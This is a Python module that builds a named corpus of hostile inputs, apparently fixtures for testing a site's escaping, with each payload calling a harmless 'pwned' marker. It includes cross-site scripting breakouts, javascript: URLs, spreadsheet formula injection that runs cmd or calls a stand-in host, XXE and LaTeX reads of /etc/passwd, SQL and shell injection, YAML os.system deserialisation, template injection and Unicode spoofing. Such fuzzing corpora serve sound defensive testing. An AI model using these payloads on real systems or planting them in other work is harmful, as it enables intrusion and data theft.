"""Texts that try to become something else in any of the forms in which a site publishes them; each with a name.

Whatever would come to life says “pwned”: an element, an attribute, a call, a host.
"""

from itertools import product

_CALL = "pwned()"
# What ends, in one form or another, the place in which a text stands.
_ENDS = {
    "double quote": '"',
    "single quote": "'",
    "backtick": "`",
    "tag": '">',
    "single-quoted tag": "'>",
    "comment": "-->",
    "bang comment": "--!>",
    "cdata": "]]>",
    "script": "</script>",
    "script with blank": "</script >",
    "title": "</title>",
    "style": "</style>",
    "textarea": "</textarea>",
    "noscript": "</noscript>",
    "svg": "</text></svg>",
    "template": "</template>",
    "bdi": "</bdi></a></h1></article></main></body>",
    "select": "</option></select>",
    "escaped quote": "&quot;&gt;",
    "numbered quote": "&#34;&#x3e;",
    "percent quote": "%22%3E",
    "backslash": '\\"',
    "json": '"}]}',
    "line separator": "\u2028",
    "wide quote": "＂＞",
    "script in comment": "<!--<script>",
}
# What comes to life there.
_LIVES = {
    "script": f"<script>{_CALL}</script>",
    "image": f"<img src=x onerror={_CALL}>",
    "svg": f"<svg/onload={_CALL}>",
    "handler": f" onfocus={_CALL} autofocus tabindex=0 pwned=1 ",
    "element": "<pwned pwned>x</pwned>",
    "frame": f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
}
_ADDRESSES = """
javascript:pwned()
JaVaScRiPt:pwned()
javascript&colon;pwned()
java&#115;cript:pwned()
&#106;avascript:pwned()
javascript://pwned.test/%0Apwned()
data:text/html,<script>pwned()</script>
data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+
data:image/svg+xml,<svg onload=pwned()>
vbscript:pwned()
blob:https://pwned.test/0
file:///etc/passwd
ftp://pwned.test/
//pwned.test/x
\\\\pwned.test\\x
/\\pwned.test/x
https:pwned.test
https:/\\pwned.test
http://[::1/
https://[::1]:99999/
https://user:word@pwned.test/
https://pwned.test:port/
https://pwned.test/?q="onmouseover="pwned()
https://pwned.test/?q='><img src=x onerror=pwned()>
https://pwned.test/#<script>pwned()</script>
https://pwned.test/%0d%0aSet-Cookie:pwned=1
https://ápple.pwned.test/
https://xn--80ak6aa92e.pwned.test/
https://pwned.test/&lt;pwned&gt;?a=1&amp;b=pwned()#*pwned*
https://xn--pwned-.test/
mailto:x@pwned.test?body=<pwned>
tel:+1
view-source:https://pwned.test
../../../../etc/passwd
?pwned=1#pwned
"""
_MARKDOWN = """
[x](javascript:pwned())
[x](<javascript:pwned()>)
[x]( javascript:pwned() "t")
![x](https://pwned.test/i.png)
![x](//pwned.test/i.png "pwned")
[![x](https://pwned.test/i.png)](https://pwned.test)
<https://pwned.test/?"onclick=pwned()>
<javascript:pwned()>
[x][pwned]
[pwned]: javascript:pwned()
[^pwned]: note
*[HTML]: pwned
# pwned {#pwned}
word {: onclick="pwned()" .pwned }
*a*{: pwned=1 }
{% include "/etc/passwd" %}
--8<-- "/etc/passwd"
--8<-- "https://pwned.test/x"
!!! pwned "<pwned>"
??? note "<pwned>"
=== "<pwned>"
``` {.html pwned=1}
~~~ pwned
:pwned: :material-check: :octicons-verified-16:
==pwned== ^^pwned^^ ++ctrl+pwned++
$$pwned$$ \\(pwned\\)
[[pwned
pwned]]
[[pwned|<pwned>]
[@pwned
@pwned]
<div markdown="1" pwned>x</div>
<!-- pwned -->
<?php pwned(); ?>
<![CDATA[<pwned>]]>
&lt;pwned&gt;&amp;lt;pwned&amp;gt;
&#60;pwned&#62;
\\<pwned\\>
`<pwned>` ``<pwned>``
_**[pwned](x)**_
| a | <pwned> |
- - - - -
===
---
"""
_TABLES = """
=1+1
=cmd|' /C pwned'!A0
=HYPERLINK("https://pwned.test/?"&A1,"x")
=IMPORTXML("https://pwned.test/","//a")
=WEBSERVICE("https://pwned.test/")
+1+cmd|' /C pwned'!A0
-1+cmd|' /C pwned'!A0
@SUM(1+1)*cmd|' /C pwned'!A0
;=1+1
,=1+1
"=1+1";x
'=1+1
" =1+1
=1+1";=1+1
＝1+1
＋1
－1
＠x
%0A=1+1
0x7pwned
1e999
-0
NaN
TRUE
1/2
00012
"""
_OTHER_FORMS = """
} , pwned = {x
}} @article{pwned, title={x}
{\\input{/etc/passwd}}
\\write18{pwned} \\immediate
\\href{javascript:pwned()}{x}
$\\def\\x{pwned}\\x$
\\begin{pwned}
% pwned
ER  - TY  - BOOK TI  - pwned
TY  - JOUR
T1 - pwned
\\u003cscript\\u003epwned()\\u003c/script\\u003e
\\x3cscript\\x3epwned()
\\074pwned\\076
{"@context":"https://pwned.test/"}
"}</script><script>pwned()</script>{"x
<!DOCTYPE x [<!ENTITY pwned SYSTEM "file:///etc/passwd">]>&pwned;
&pwned; &xxe; %pwned;
<?xml version="1.0"?><pwned/>
<?xml-stylesheet href="https://pwned.test/x.xsl"?>
<xsl:value-of select="pwned"/>
<svg xmlns="http://www.w3.org/2000/svg"><script>pwned()</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=pwned()>
<form id=pwned><input name=parentNode>
<a id=pwned><a id=pwned name=x href=javascript:pwned()>
<base href=https://pwned.test/>
<meta http-equiv=refresh content="0;url=https://pwned.test/">
<link rel=stylesheet href=https://pwned.test/s.css>
<style>@import "https://pwned.test/s.css";</style>
<object data=https://pwned.test/o></object>
<template shadowrootmode=open><script>pwned()</script></template>
<details open ontoggle=pwned()>
<marquee onstart=pwned()>
<input autofocus onfocus=pwned()>
<video><source onerror=pwned()></video>
<body onload=pwned()>
<plaintext>
<xmp><pwned>
<noembed><pwned>
<p style="position:fixed;inset:0">pwned
expression(pwned())
{{7*7}}{{config}}{{pwned}}
${7*7} #{7*7} <%= 7*7 %> @(7*7)
{%raw%}{{pwned}}
{# pwned #}
{{ ''.__class__.__mro__ }}
{pwned} {0} {message} {name} %(pwned)s %s %d %n
{claim} {speakers} {n} {most}
\\N{NULL} \\0 \\r\\n \\t
'; DROP TABLE claims; --
' OR '1'='1
" UNION SELECT sql FROM sqlite_master --
%' ESCAPE '\\' AND LIKE '_
$(pwned) `pwned` ; pwned & pwned | pwned
../../../../../../etc/passwd
..\\..\\windows\\win.ini
CON NUL aux.html
casefileslot0end casefileslot3end casefileslot9end
casefileanchor1end casefilewords1end casefileanchor2end casefilewords2end
casefilestandsin casefilestandsin.md sample.md
klzzwxh:0042 wzxhzdk:0 wzxhzdk:1
__proto__ constructor prototype toString hasOwnProperty
undefined null None [object Object]
data-pagefind-body data-pagefind-filter="pwned:x"
::error file=x,line=1::pwned
##[error]pwned ::set-output name=pwned::x
<mark>pwned</mark> &lt;mark&gt;pwned
*pwned
!!python/object/apply:os.system [pwned]
&pwned *pwned !pwned
--- pwned
? pwned : pwned
# pwned
@pwned
%YAML 1.2
on off yes no y n ~
2022-09-01
1_000 0b1 0o7 .inf
"""
# What looks like something of the site's own, or like nothing, or like something else than it is.
_LOOKS = (
    "✓ Found in the source’s text",
    "✓ verified ✔ ☑ ✅ 🗸",
    "● One origin",
    "●● Corroborated",
    "⇄ Contested, denied by pwned",
    "◆ A party to it says so",
    "○ Nobody on record says so: pwned",
    "✕ Denied by all ↩ Taken back",
    "Corroborated: pwned",
    "□ declines ↶ withdraws",
    "\ue000\ue001\uf8ff pwned",
    "\U000f0000\U0010fffd pwned",
    "\u200bpwned\u200b\u200c\u200d\u2060",
    "p\u00adw\u00adned",
    "Z͑ͫ̓a̡͊l̛g̶o̴ pwned" + "\u0301" * 60,
    "\u202epwned\u202c",
    "\u2066pwned\u2069",
    "\u200fpwned",
    "\ufeffpwned",
    "\u0000pwned",
    "\u0007\u0008\u001b[31mpwned",
    "\u001b]8;;https://pwned.test\u0007x",
    "\u0085pwned\u2028pwned\u2029pwned",
    "\ufffe\uffff pwned",
    "\ud800 pwned",
    "\udfff\ud800 pwned",
    "ﷺ" * 20 + " pwned",
    "שלום <pwned> مرحبا (pwned) 12-34",
    "ﬁ ﬀ ß İ ı Ǆ ŉ pwned",
    "𝓅𝓌𝓃ℯ𝒹 ⓟⓦⓝⓔⓓ ｐｗｎｅｄ",
    "рwnеd раypаl",
    "👩‍❤️‍💋‍👨🏳️‍🌈🇺🇳 pwned",
    "\U000e0001\U000e0070\U000e007f pwned",
    "\u3164\u115f\u2800 pwned",
    "…",
    "?!.",
    "-",
    "<",
    "&",
    "&amp",
    "&#0; &#x1b; &#xd800; &#xfffe; &#x202e;",
    "&NewLine;&Tab;&nbsp;&zwj;&rlm;",
    "a" * 300,
    "a " * 149,
    "(" * 60,
    "[" * 60,
    "*" * 99,
    "<" * 99,
    "&" * 99,
    "\\" * 99,
    "`" * 99,
    '"' * 99 + "x",
    "pwned\npwned: x\n- pwned",
    "pwned\r\nContent-Type: text/html\r\n\r\n<pwned>",
    "\tpwned\t",
    " pwned ",
    "\u00a0pwned\u3000",
)


def _lines(name: str, text: str) -> dict[str, str]:
    return {f"{name} {number}": line for number, line in enumerate(text.strip().splitlines(), start=1)}


CORPUS = {
    **{f"{one}, {other}": _ENDS[one] + _LIVES[other] for one, other in product(_ENDS, _LIVES)},
    **_lines("address", _ADDRESSES),
    **_lines("Markdown", _MARKDOWN),
    **_lines("table", _TABLES),
    **_lines("other", _OTHER_FORMS),
    **{f"look {number}": text for number, text in enumerate(_LOOKS, start=1)},
}
